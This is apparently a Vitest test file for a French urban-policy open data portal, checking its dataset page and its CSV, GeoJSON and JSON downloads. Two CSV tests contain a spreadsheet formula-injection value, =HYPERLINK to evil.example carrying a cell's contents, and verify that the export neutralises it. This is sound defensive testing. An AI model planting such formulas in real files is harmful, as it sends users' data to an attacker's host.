// Open data pages and files: /donnees, CSV, GeoJSON and JSON downloads.
import type { LightMyRequestResponse } from "fastify";
import type { FeatureCollection, MultiPolygon, Polygon } from "geojson";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TestWorld } from "../../../test/helpers.js";
import { CSV_BOM, parseCsv } from "../../lib/csv.js";
import type { ActionRecord, PlaceRecord } from "./present.js";
import { createOpenDataWorld, square } from "./test-data.js";

let w: TestWorld;
const get = (url: string) => w.app.inject({ url });
/** The parsed body, read as T: no check here, the assertions that follow are the checks. */
const json = <T = unknown>(res: LightMyRequestResponse) => JSON.parse(res.body) as T;
type Places = FeatureCollection<Polygon | MultiPolygon | null, PlaceRecord>;
interface ActionsFile {
  licence: { name: string; url: string };
  data: Array<ActionRecord & { financements: unknown[] }>;
}

beforeAll(async () => {
  w = await createOpenDataWorld();
});
afterAll(async () => w?.close());

async function csv(url: string) {
  const res = await get(url);
  expect(res.statusCode, url).toBe(200);
  expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
  expect(res.headers["content-disposition"]).toBe(`attachment; filename="${url.split("/").pop()}"`);
  expect(res.headers["cache-control"]).toBe("public, max-age=300");
  expect(res.body.startsWith(CSV_BOM)).toBe(true);
  expect(res.body.endsWith("\r\n")).toBe(true);
  expect(res.body.replace(/\r\n/g, "")).not.toMatch(/[\r\n]/); // every line ends with CRLF (no value here spans lines)
  const parsed = parseCsv(res.body);
  return { header: parsed.header, rows: parsed.rows.map((r) => r.values) };
}

describe("/donnees", () => {
  it("lists the datasets with licence, last update, row count, downloads and API links", async () => {
    const res = await get("/donnees");
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("text/html; charset=utf-8");
    const html = res.body;
    for (const text of [
      "Quartiers prioritaires de la politique de la ville (QPV)",
      "Quartiers et communes associées",
      "Actions du contrat de ville et leurs financements",
      "Indicateurs des quartiers",
      "Licence Ouverte / Open Licence 2.0",
      'href="https://www.etalab.gouv.fr/licence-ouverte-open-licence/"',
      '<time datetime="2025-02-03">3 février 2025</time>',
      "non renseignée",
      "2 quartiers prioritaires",
      "2 quartiers et communes associées",
      "3 actions, 3 lignes de financement",
      "3 valeurs",
      "<strong>point</strong> comme séparateur décimal",
      'href="/donnees/api"',
      'href="/api/v1/openapi.json"',
      "Données de démonstration",
      '"@type":"Dataset"',
    ]) {
      expect(html, text).toContain(text);
    }
  });

  it("is cached as a page and dropped when neighbourhoods or policy data change", async () => {
    await get("/donnees");
    expect((await get("/donnees")).headers["x-cache"]).toBe("hit");
    w.pageCache.invalidateTags(["neighbourhoods"]);
    expect((await get("/donnees")).headers["x-cache"]).toBe("miss");
  });

  it("links only to URLs that answer 200", async () => {
    const openData = (html: string) => [...html.matchAll(/href="(\/(?:donnees|api)(?:\/[^"#]*)?)"/g)].map((m) => m[1]!.replaceAll("&amp;", "&"));
    const links = openData((await get("/donnees")).body);
    expect(links).toEqual(
      expect.arrayContaining([
        "/donnees/qpv.csv",
        "/donnees/qpv.geojson",
        "/donnees/quartiers.csv",
        "/donnees/quartiers.geojson",
        "/donnees/actions.csv",
        "/donnees/actions.json",
        "/donnees/financements.csv",
        "/donnees/indicateurs.csv",
        "/api/v1/qpv",
        "/api/v1/actions",
        "/api/v1/indicateurs",
        "/donnees/api",
      ]),
    );
    const apiDoc = openData((await get("/donnees/api")).body);
    expect(apiDoc).toContain("/donnees/actions.json");
    for (const url of new Set([...links, ...apiDoc])) {
      expect((await get(url)).statusCode, url).toBe(200);
    }
  });
});

describe("CSV files", () => {
  it("qpv.csv and quartiers.csv list places with or without perimeter", async () => {
    const qpv = await csv("/donnees/qpv.csv");
    expect(qpv.header).toEqual([
      "slug",
      "nom",
      "type",
      "code",
      "communes",
      "population",
      "perimetre_disponible",
      "source_perimetre",
      "perimetre_mis_a_jour",
      "url",
    ]);
    expect(qpv.rows.map((r) => r.code).sort()).toEqual(["QN05901M", "QN05902M"]);
    expect(qpv.rows.find((r) => r.code === "QN05901M")).toMatchObject({
      nom: "Secteur Ouest",
      communes: "59350",
      population: "8200",
      perimetre_disponible: "true",
      perimetre_mis_a_jour: "2025-02-03T10:00:00.000Z",
      url: "https://portail.test/quartiers/secteur-ouest",
    });
    expect(qpv.rows.find((r) => r.code === "QN05902M")).toMatchObject({ perimetre_disponible: "false", population: "", perimetre_mis_a_jour: "" });
    const quartiers = await csv("/donnees/quartiers.csv");
    expect(quartiers.rows.map((r) => `${r.slug}:${r.type}`).sort()).toEqual(["centre:quartier", "hellemmes:commune"]);
  });

  it("actions.csv has one row per action, joined lists, dot decimals, and a neutralised formula", async () => {
    const { header, rows } = await csv("/donnees/actions.csv");
    expect(header).toEqual([
      "slug",
      "titre",
      "resume",
      "contrat",
      "priorite",
      "priorite_slug",
      "statut",
      "statut_libelle",
      "avancement",
      "date_debut",
      "date_fin",
      "porteur",
      "partenaires",
      "quartiers",
      "codes_qpv",
      "financement_total",
      "compte_dans_les_totaux",
      "exemple",
      "mis_a_jour",
      "url",
    ]);
    expect(rows).toHaveLength(3);
    expect(rows.find((r) => r.slug === "action-formule")).toMatchObject({
      titre: `'=HYPERLINK("http://evil.example/?"&A1)`,
      contrat: "Contrat de ville 2024-2030",
      priorite: "Emploi",
      statut: "in_progress",
      statut_libelle: "En cours",
      avancement: "40",
      date_debut: "2025-01-01",
      date_fin: "2025-12-31",
      porteur: "Centre social",
      partenaires: "Bailleur, Habitat | Mission locale",
      quartiers: "centre",
      codes_qpv: "QN05901M",
      financement_total: "20000.5",
      compte_dans_les_totaux: "true",
      exemple: "true",
    });
    expect(rows.find((r) => r.slug === "action-a-venir")).toMatchObject({ porteur: "", quartiers: "", financement_total: "0", exemple: "false" });
  });

  it("financements.csv has one row per funding line with its action", async () => {
    const { header, rows } = await csv("/donnees/financements.csv");
    expect(header).toEqual([
      "action_slug",
      "action_titre",
      "action_statut",
      "financeur",
      "financeur_libelle",
      "annee",
      "montant",
      "libelle",
      "compte_dans_les_totaux",
    ]);
    expect(rows.map((r) => `${r.action_slug} ${r.financeur} ${r.annee} ${r.montant}`)).toEqual([
      "action-formule etat 2024 12000.5",
      "action-formule metropole 2025 8000",
      "action-terminee caf 2019 500",
    ]);
    expect(rows[0]).toMatchObject({
      action_titre: `'=HYPERLINK("http://evil.example/?"&A1)`,
      action_statut: "in_progress",
      financeur_libelle: "État",
      compte_dans_les_totaux: "true",
    });
  });

  it("indicateurs.csv lists every value", async () => {
    const { header, rows } = await csv("/donnees/indicateurs.csv");
    expect(header).toEqual(["metric", "libelle", "type_territoire", "code_territoire", "nom_territoire", "annee", "valeur", "unite", "source"]);
    expect(rows.map((r) => `${r.metric} ${r.code_territoire} ${r.annee} ${r.valeur}`)).toEqual([
      "population QN05901M 2020 8200",
      "taux_pauvrete 59350 2021 25.1",
      "taux_pauvrete QN05901M 2021 42.5",
    ]);
  });
});

describe("GeoJSON and JSON files", () => {
  it("are valid FeatureCollections, with null geometry for places without perimeter", async () => {
    for (const [url, count] of [
      ["/donnees/qpv.geojson", 2],
      ["/donnees/quartiers.geojson", 2],
    ] as const) {
      const res = await get(url);
      expect(res.headers["content-type"]).toBe("application/geo+json");
      expect(res.headers["content-disposition"]).toBe(`attachment; filename="${url.split("/").pop()}"`);
      expect(res.headers["cache-control"]).toBe("public, max-age=300");
      const fc = json<Places>(res);
      expect(fc.type).toBe("FeatureCollection");
      expect(fc.features).toHaveLength(count);
      for (const f of fc.features) {
        expect(f.type).toBe("Feature");
        expect(f.geometry === null || ["Polygon", "MultiPolygon"].includes(f.geometry.type)).toBe(true);
        expect(typeof f.properties).toBe("object");
        expect(f.properties.slug).toBe(f.id);
      }
    }
    const qpv = json<Places>(await get("/donnees/qpv.geojson"));
    expect(qpv.features.find((f) => f.id === "secteur-ouest")?.geometry).toEqual({ type: "Polygon", coordinates: [square(3.05, 50.62)] });
    expect(qpv.features.find((f) => f.id === "secteur-nord")?.geometry).toBeNull();
    const quartiers = json<Places>(await get("/donnees/quartiers.geojson"));
    expect(quartiers.features.find((f) => f.id === "centre")?.geometry?.type).toBe("MultiPolygon");
  });

  it("actions.json nests the funding lines in each action", async () => {
    const res = await get("/donnees/actions.json");
    expect(res.headers["content-type"]).toBe("application/json; charset=utf-8");
    const body = json<ActionsFile>(res);
    expect(body.licence.name).toBe("Licence Ouverte / Open Licence 2.0");
    const a = body.data.find((x) => x.slug === "action-formule");
    expect(a?.financements).toEqual([
      { financeur: "etat", financeur_libelle: "État", annee: 2024, montant: 12000.5, libelle: "" },
      { financeur: "metropole", financeur_libelle: "Métropole", annee: 2025, montant: 8000, libelle: "" },
    ]);
    expect(res.headers["access-control-allow-origin"]).toBeUndefined(); // CORS is for the API only
  });
});
